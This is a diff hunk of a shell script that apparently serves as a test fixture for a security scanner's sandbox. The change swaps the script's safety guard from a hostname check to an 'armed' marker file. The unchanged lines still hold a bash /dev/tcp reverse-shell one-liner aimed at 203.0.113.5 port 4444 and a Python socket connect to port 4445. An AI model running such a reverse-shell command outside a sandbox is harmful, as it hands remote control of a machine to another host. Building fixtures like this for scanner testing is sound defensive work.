@@ -6,7 +6,7 @@
 # sandbox's own sinkhole, which sends no command: the shell only prints its
 # prompt to it until `timeout` ends it. Offline, each connect fails with
 # ENETUNREACH before any shell is started.
-[ "$(uname -n)" = scanfarm-sandbox ] || { echo "attack-reverse-shell: not in the scanfarm sandbox, doing nothing"; exit 0; }
+[ -f "$(dirname "$0")/armed" ] || { echo "attack-reverse-shell: not armed by scanfarm's tests, doing nothing"; exit 0; }
 timeout 5 bash -c 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1' </dev/null 2>/dev/null ||
   echo "attack-reverse-shell: bash /dev/tcp shell ended (no route, or timed out)"
 timeout 5 python3 -c 'import socket; s = socket.socket(); s.settimeout(3); s.connect(("203.0.113.5", 4445))' 2>/dev/null ||
